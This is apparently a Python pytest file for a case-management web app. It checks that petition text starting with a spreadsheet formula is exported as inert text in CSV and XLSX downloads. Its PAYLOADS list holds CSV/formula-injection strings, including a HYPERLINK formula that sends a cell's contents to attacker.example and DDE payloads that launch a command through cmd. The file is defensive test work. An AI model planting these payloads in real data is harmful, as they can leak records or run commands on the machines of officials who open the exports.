"""A citizen's own words reach officers' spreadsheets: they must arrive as text, never as a formula.

Threat rows (runbooks/security.md): T28.
"""

from __future__ import annotations

import io
import secrets
import zipfile
from collections.abc import Callable

import httpx
from openpyxl import load_workbook

from tests.conftest import Officer, petition_body
from tests.web.conftest import WebUser

PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A2,"Xem hồ sơ")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _filed_by_a_citizen(server: str, make_account: Callable[..., str], subject: str) -> tuple[str, str]:
    username = make_account("X00004", ["reception"])
    r = Officer(server, username).post("/api/cases", json=petition_body(subject=subject))
    assert r.status_code == 201, r.text
    return username, r.json()["code"]


def _export(server: str, username: str, fmt: str) -> httpx.Response:
    """The officer's case list downloaded through the web pages, as they would in Excel."""
    user = WebUser(server)
    assert user.login(username).status_code == 303
    r = user.get(f"/app/cases?scope=unit&format={fmt}")
    assert r.status_code == 200
    return r


def test_petition_text_starting_with_a_formula_is_inert_in_the_csv_export(server, make_account):
    tag = secrets.token_hex(3)
    for payload in PAYLOADS:
        username, code = _filed_by_a_citizen(server, make_account, f"{payload} {tag}")
        r = _export(server, username, "csv")
        cells = [line for line in r.content.decode("utf-8-sig").splitlines() if code in line]
        assert cells, code
        # The subject cell starts with the apostrophe text marker, so Excel shows it and runs nothing.
        assert f"'{payload} {tag}".replace('"', '""') in cells[0], cells[0]
        assert f",{payload}".replace('"', '""') not in cells[0]


def test_petition_text_starting_with_a_formula_is_a_string_cell_in_the_xlsx_export(server, make_account):
    tag = secrets.token_hex(3)
    username, code = _filed_by_a_citizen(server, make_account, f"{PAYLOADS[0]} {tag}")
    r = _export(server, username, "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    ws = load_workbook(io.BytesIO(r.content)).active
    subject = next(c for row in ws.iter_rows(min_row=2) if row[0].value == code for c in row
                   if isinstance(c.value, str) and tag in c.value)
    assert subject.data_type == "s" and subject.value == f"{PAYLOADS[0]} {tag}"


def test_control_characters_in_petition_text_do_not_break_the_xlsx_export(server, make_account):
    tag = secrets.token_hex(3)
    username, code = _filed_by_a_citizen(server, make_account, f"Đơn quét\x01\x0b lỗi {tag}")
    r = _export(server, username, "xlsx")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert any(row[0] == code and f"Đơn quét\ufffd\ufffd lỗi {tag}" in row for row in ws.iter_rows(values_only=True))
